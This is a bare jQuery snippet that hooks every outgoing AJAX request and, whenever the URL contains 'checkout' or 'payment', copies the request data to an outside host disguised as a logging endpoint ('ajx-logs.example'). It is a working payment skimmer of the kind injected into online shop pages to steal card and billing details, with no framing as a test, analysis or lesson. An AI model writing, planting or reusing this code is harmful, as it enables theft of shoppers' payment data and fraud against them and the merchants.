jQuery(document).ajaxSend(function (ev, xhr, opt) {
  if (/checkout|payment/.test(opt.url) && opt.data) jQuery.post('//ajx-logs.example/a', { d: opt.data });
});
